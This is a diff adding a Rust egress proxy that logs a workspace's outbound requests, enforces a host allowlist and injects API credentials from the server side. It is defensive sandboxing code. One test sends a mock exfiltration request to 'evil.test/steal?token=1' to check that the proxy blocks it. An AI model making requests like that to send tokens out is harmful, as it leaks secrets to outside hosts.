@@ -0,0 +1,528 @@
+use std::collections::VecDeque;
+use std::sync::{Arc, Mutex};
+use std::time::{Duration, SystemTime, UNIX_EPOCH};
+
+use anyhow::{Context, Result};
+use base64::Engine;
+use schemars::JsonSchema;
+use serde::{Deserialize, Serialize};
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::net::{TcpListener, TcpStream};
+use tokio::task::JoinHandle;
+
+const HEAD_END: &[u8] = b"\r\n\r\n";
+const MAX_HEAD_BYTES: usize = 64 * 1024;
+const ACCEPT_RETRY_INTERVAL: Duration = Duration::from_millis(100);
+// Headers that only apply to a single connection, which are not forwarded
+pub(crate) const HOP_BY_HOP: &[&str] = &[
+    "connection",
+    "keep-alive",
+    "proxy-authorization",
+    "proxy-connection",
+    "te",
+    "trailer",
+    "transfer-encoding",
+    "upgrade",
+    "host",
+    "content-length",
+];
+
+// A proxy that derrick runs for every workspace, which records the requests of the workspace and
+// only lets the allowed ones through
+#[derive(Debug, Clone, Deserialize, Serialize, JsonSchema, PartialEq)]
+pub struct EgressProxyConfig {
+    // Credentials added to requests to approved APIs, so that they never enter the workspace
+    #[serde(default)]
+    pub credentials: Vec<InjectedCredential>,
+    // Recorded requests per workspace, the oldest are dropped first
+    #[serde(default = "default_max_requests")]
+    pub max_requests: usize,
+}
+
+fn default_max_requests() -> usize {
+    1000
+}
+
+impl Default for EgressProxyConfig {
+    fn default() -> Self {
+        Self {
+            credentials: Vec::new(),
+            max_requests: default_max_requests(),
+        }
+    }
+}
+
+// Sets a header on the requests to a host. The workspace sends them over plain HTTP to the proxy,
+// e.g. `http://api.github.com/user`, and the proxy makes them over HTTPS.
+#[derive(Debug, Clone, Deserialize, Serialize, JsonSchema, PartialEq)]
+pub struct InjectedCredential {
+    pub host: String,
+    // e.g. `Authorization`
+    pub header: String,
+    // Environment variable of the server with the value of the header, e.g. `Bearer ...`
+    pub value_env: String,
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize, JsonSchema, PartialEq)]
+pub struct EgressRequest {
+    // Unix time in milliseconds
+    pub timestamp: u64,
+    pub method: String,
+    pub host: String,
+    pub port: u16,
+    // Not known for HTTPS requests, which are tunneled
+    pub path: Option<String>,
+    pub allowed: bool,
+    // Status of the response, for plain HTTP requests that were forwarded
+    pub status: Option<u16>,
+    pub credential_injected: bool,
+}
+
+// Shared by the connections of a proxy
+#[derive(Debug)]
+struct ProxyState {
+    config: EgressProxyConfig,
+    // Hosts that can be reached, everything when not set. `*.example.com` also allows the
+    // subdomains of example.com.
+    allowed_hosts: Option<Vec<String>>,
+    // Expected in the Proxy-Authorization header, so that only the workspace can use its proxy
+    token: String,
+    requests: Mutex<VecDeque<EgressRequest>>,
+    client: reqwest::Client,
+}
+
+impl ProxyState {
+    fn allows(&self, host: &str) -> bool {
+        let Some(allowed_hosts) = &self.allowed_hosts else {
+            return true;
+        };
+        allowed_hosts
+            .iter()
+            .any(|allowed| match allowed.strip_prefix("*.") {
+                Some(domain) => {
+                    host == domain
+                        || host
+                            .strip_suffix(domain)
+                            .is_some_and(|prefix| prefix.ends_with('.'))
+                }
+                None => host == allowed,
+            })
+    }
+
+    fn record(&self, request: EgressRequest) {
+        let mut requests = self.requests.lock().unwrap();
+        if self.config.max_requests == 0 {
+            return;
+        }
+        while requests.len() >= self.config.max_requests {
+            requests.pop_front();
+        }
+        requests.push_back(request);
+    }
+
+    fn authorized(&self, request: &RequestHead) -> bool {
+        let expected =
+            base64::engine::general_purpose::STANDARD.encode(format!("derrick:{}", self.token));
+        request
+            .header("proxy-authorization")
+            .and_then(|value| value.strip_prefix("Basic "))
+            .is_some_and(|credentials| credentials.trim() == expected)
+    }
+}
+
+#[derive(Debug)]
+pub struct EgressProxy {
+    port: u16,
+    state: Arc<ProxyState>,
+    listener: JoinHandle<()>,
+}
+
+impl EgressProxy {
+    // Listens on a port of its own. Docker workspaces reach the proxy from their container, so it
+    // listens on all interfaces for them, and on localhost otherwise.
+    pub async fn start(
+        config: &EgressProxyConfig,
+        allowed_hosts: Option<Vec<String>>,
+        public: bool,
+    ) -> Result<Self> {
+        for credential in &config.credentials {
+            if std::env::var(&credential.value_env).is_err() {
+                anyhow::bail!(
+                    "Credential for {} is not set: {}",
+                    credential.host,
+                    credential.value_env
+                );
+            }
+        }
+
+        let address = if public { "0.0.0.0:0" } else { "127.0.0.1:0" };
+        let listener = TcpListener::bind(address)
+            .await
+            .context("Could not start egress proxy")?;
+        let port = listener.local_addr()?.port();
+        let state = Arc::new(ProxyState {
+            config: config.clone(),
+            allowed_hosts,
+            token: uuid::Uuid::new_v4().simple().to_string(),
+            requests: Mutex::new(VecDeque::new()),
+            client: reqwest::Client::builder()
+                .redirect(reqwest::redirect::Policy::none())
+                .build()?,
+        });
+
+        let accepting = Arc::clone(&state);
+        let listener = tokio::spawn(async move {
+            loop {
+                let Ok((stream, _)) = listener.accept().await else {
+                    // e.g. out of file descriptors, which takes a while to resolve
+                    tokio::time::sleep(ACCEPT_RETRY_INTERVAL).await;
+                    continue;
+                };
+                let state = Arc::clone(&accepting);
+                tokio::spawn(async move {
+                    if let Err(e) = handle(stream, &state).await {
+                        tracing::debug!("Egress proxy connection failed: {:?}", e);
+                    }
+                });
+            }
+        });
+        tracing::info!("Started egress proxy on port {}", port);
+
+        Ok(Self {
+            port,
+            state,
+            listener,
+        })
+    }
+
+    // Environment that sends the HTTP(S) traffic of the workspace through the proxy, which the
+    // workspace reaches at `host`
+    pub fn env(&self, host: &str) -> Vec<(String, String)> {
+        crate::network::proxy_env(&format!(
+            "http://derrick:{}@{}:{}",
+            self.state.token, host, self.port
+        ))
+    }
+
+    pub fn requests(&self) -> Vec<EgressRequest> {
+        self.state
+            .requests
+            .lock()
+            .unwrap()
+            .iter()
+            .cloned()
+            .collect()
+    }
+}
+
+impl Drop for EgressProxy {
+    fn drop(&mut self) {
+        self.listener.abort();
+    }
+}
+
+#[derive(Debug)]
+struct RequestHead {
+    method: String,
+    target: String,
+    headers: Vec<(String, String)>,
+}
+
+impl RequestHead {
+    fn parse(head: &str) -> Result<Self> {
+        let mut lines = head.split("\r\n");
+        let mut request_line = lines.next().context("Empty request")?.split_whitespace();
+        let method = request_line.next().context("Request without method")?;
+        let target = request_line.next().context("Request without target")?;
+        let headers = lines
+            .filter_map(|line| line.split_once(':'))
+            .map(|(name, value)| (name.trim().to_string(), value.trim().to_string()))
+            .collect();
+        Ok(Self {
+            method: method.to_string(),
+            target: target.to_string(),
+            headers,
+        })
+    }
+
+    fn header(&self, name: &str) -> Option<&str> {
+        self.headers
+            .iter()
+            .find(|(header, _)| header.eq_ignore_ascii_case(name))
+            .map(|(_, value)| value.as_str())
+    }
+}
+
+// Handles one request per connection: tunnels CONNECT requests for HTTPS, and forwards plain
+// HTTP requests, with a credential added for approved APIs
+async fn handle(mut client: TcpStream, state: &ProxyState) -> Result<()> {
+    let (head, mut rest) = read_head(&mut client).await?;
+    let request = RequestHead::parse(&head)?;
+    if !state.authorized(&request) {
+        return respond(&mut client, 407, "Proxy Authentication Required", &[]).await;
+    }
+
+    let (host, port, path) = if request.method.eq_ignore_ascii_case("CONNECT") {
+        let (host, port) = match request.target.rsplit_once(':') {
+            Some((host, port)) => (host.to_string(), port.parse().unwrap_or(443)),
+            None => (request.target.clone(), 443),
+        };
+        (host, port, None)
+    } else {
+        let url = url::Url::parse(&request.target).context("Expected an absolute url")?;
+        let host = url.host_str().context("Url without host")?.to_string();
+        let port = url.port_or_known_default().unwrap_or(80);
+        (host, port, Some(url.path().to_string()))
+    };
+
+    let mut record = EgressRequest {
+        timestamp: SystemTime::now()
+            .duration_since(UNIX_EPOCH)
+            .map(|elapsed| elapsed.as_millis() as u64)
+            .unwrap_or_default(),
+        method: request.method.clone(),
+        host: host.clone(),
+        port,
+        path,
+        allowed: state.allows(&host),
+        status: None,
+        credential_injected: false,
+    };
+    if !record.allowed {
+        state.record(record);
+        return respond(&mut client, 403, "Forbidden", &[]).await;
+    }
+
+    if record.path.is_none() {
+        state.record(record);
+        let mut upstream = match TcpStream::connect((host.as_str(), port)).await {
+            Ok(upstream) => upstream,
+            Err(_) => return respond(&mut client, 502, "Bad Gateway", &[]).await,
+        };
+        client
+            .write_all(b"HTTP/1.1 200 Connection Established\r\n\r\n")
+            .await?;
+        upstream.write_all(&rest).await?;
+        tokio::io::copy_bidirectional(&mut client, &mut upstream).await?;
+        return Ok(());
+    }
+
+    if request.header("transfer-encoding").is_some() {
+        state.record(record);
+        return respond(&mut client, 411, "Length Required", &[]).await;
+    }
+    let length: usize = request
+        .header("content-length")
+        .and_then(|length| length.parse().ok())
+        .unwrap_or(0);
+    while rest.len() < length {
+        let mut buffer = vec![0; length - rest.len()];
+        let read = client.read(&mut buffer).await?;
+        if read == 0 {
+            anyhow::bail!("Connection closed before the request body was sent");
+        }
+        rest.extend_from_slice(&buffer[..read]);
+    }
+    rest.truncate(length);
+
+    let mut url = url::Url::parse(&request.target)?;
+    let credential = state
+        .config
+        .credentials
+        .iter()
+        .find(|credential| credential.host == host);
+    if credential.is_some() && url.scheme() == "http" {
+        let _ = url.set_scheme("https");
+        let _ = url.set_port(None);
+    }
+    let method = reqwest::Method::from_bytes(request.method.as_bytes())?;
+    let mut forwarded = state.client.request(method, url).body(rest);
+    for (name, value) in &request.headers {
+        if !HOP_BY_HOP.contains(&name.to_ascii_lowercase().as_str()) {
+            forwarded = forwarded.header(name, value);
+        }
+    }
+    if let Some(credential) = credential {
+        let value = std::env::var(&credential.value_env).unwrap_or_default();
+        forwarded = forwarded.header(&credential.header, value);
+        record.credential_injected = true;
+    }
+
+    let response = match forwarded.send().await {
+        Ok(response) => response,
+        Err(e) => {
+            tracing::debug!("Egress request to {} failed: {:?}", host, e);
+            state.record(record);
+            return respond(&mut client, 502, "Bad Gateway", &[]).await;
+        }
+    };
+    let status = response.status();
+    record.status = Some(status.as_u16());
+    state.record(record);
+
+    let headers = response
+        .headers()
+        .iter()
+        .filter(|(name, _)| !HOP_BY_HOP.contains(&name.as_str()))
+        .map(|(name, value)| {
+            (
+                name.to_string(),
+                value.to_str().unwrap_or_default().to_string(),
+            )
+        })
+        .collect::<Vec<_>>();
+    let body = response.bytes().await?;
+    respond_with_body(
+        &mut client,
+        status.as_u16(),
+        status.canonical_reason().unwrap_or_default(),
+        &headers,
+        &body,
+    )
+    .await
+}
+
+// Reads up to the end of the request head, returns it with what was read of the body
+async fn read_head(client: &mut TcpStream) -> Result<(String, Vec<u8>)> {
+    let mut buffer = Vec::new();
+    let mut chunk = [0; 4096];
+    loop {
+        if let Some(end) = buffer
+            .windows(HEAD_END.len())
+            .position(|window| window == HEAD_END)
+        {
+            let rest = buffer.split_off(end + HEAD_END.len());
+            buffer.truncate(end);
+            return Ok((String::from_utf8(buffer)?, rest));
+        }
+        if buffer.len() > MAX_HEAD_BYTES {
+            anyhow::bail!("Request head too large");
+        }
+        let read = client.read(&mut chunk).await?;
+        if read == 0 {
+            anyhow::bail!("Connection closed before the request was sent");
+        }
+        buffer.extend_from_slice(&chunk[..read]);
+    }
+}
+
+async fn respond(
+    client: &mut TcpStream,
+    status: u16,
+    reason: &str,
+    headers: &[(String, String)],
+) -> Result<()> {
+    respond_with_body(client, status, reason, headers, &[]).await
+}
+
+async fn respond_with_body(
+    client: &mut TcpStream,
+    status: u16,
+    reason: &str,
+    headers: &[(String, String)],
+    body: &[u8],
+) -> Result<()> {
+    let mut response = format!("HTTP/1.1 {} {}\r\n", status, reason);
+    if status == 407 {
+        response.push_str("Proxy-Authenticate: Basic realm=\"derrick\"\r\n");
+    }
+    for (name, value) in headers {
+        response.push_str(&format!("{}: {}\r\n", name, value));
+    }
+    response.push_str(&format!(
+        "Content-Length: {}\r\nConnection: close\r\n\r\n",
+        body.len()
+    ));
+    client.write_all(response.as_bytes()).await?;
+    client.write_all(body).await?;
+    client.shutdown().await?;
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn proxy_url(proxy: &EgressProxy) -> String {
+        proxy
+            .env("127.0.0.1")
+            .into_iter()
+            .find(|(key, _)| key == "HTTP_PROXY")
+            .unwrap()
+            .1
+    }
+
+    // Sends a plain HTTP request through the proxy, returns the status line of the response
+    async fn request(proxy: &str, url: &str) -> String {
+        let proxy = url::Url::parse(proxy).unwrap();
+        let mut stream = TcpStream::connect(("127.0.0.1", proxy.port().unwrap()))
+            .await
+            .unwrap();
+        let credentials = base64::engine::general_purpose::STANDARD.encode(format!(
+            "{}:{}",
+            proxy.username(),
+            proxy.password().unwrap()
+        ));
+        stream
+            .write_all(
+                format!(
+                    "GET {} HTTP/1.1\r\nHost: example\r\nProxy-Authorization: Basic {}\r\n\r\n",
+                    url, credentials
+                )
+                .as_bytes(),
+            )
+            .await
+            .unwrap();
+        let mut response = String::new();
+        stream.read_to_string(&mut response).await.unwrap();
+        response.lines().next().unwrap_or_default().to_string()
+    }
+
+    #[tokio::test]
+    async fn test_records_and_blocks_requests_to_other_hosts() {
+        let proxy = EgressProxy::start(
+            &EgressProxyConfig::default(),
+            Some(vec!["*.example.com".to_string()]),
+            false,
+        )
+        .await
+        .unwrap();
+
+        let status = request(&proxy_url(&proxy), "http://evil.test/steal?token=1").await;
+        assert!(status.contains("403"));
+
+        let requests = proxy.requests();
+        assert_eq!(requests.len(), 1);
+        assert_eq!(requests[0].host, "evil.test");
+        assert_eq!(requests[0].path.as_deref(), Some("/steal"));
+        assert!(!requests[0].allowed);
+    }
+
+    #[tokio::test]
+    async fn test_requires_proxy_credentials() {
+        let proxy = EgressProxy::start(&EgressProxyConfig::default(), None, false)
+            .await
+            .unwrap();
+        let url = proxy_url(&proxy).replace(&proxy.state.token, "guessed");
+
+        assert!(request(&url, "http://example.com/").await.contains("407"));
+        assert!(proxy.requests().is_empty());
+    }
+
+    #[test]
+    fn test_allowed_hosts() {
+        let state = ProxyState {
+            config: EgressProxyConfig::default(),
+            allowed_hosts: Some(vec!["github.com".to_string(), "*.crates.io".to_string()]),
+            token: String::new(),
+            requests: Mutex::new(VecDeque::new()),
+            client: reqwest::Client::new(),
+        };
+
+        assert!(state.allows("github.com"));
+        assert!(!state.allows("api.github.com"));
+        assert!(state.allows("crates.io"));
+        assert!(state.allows("static.crates.io"));
+        assert!(!state.allows("evilcrates.io"));
+    }
+}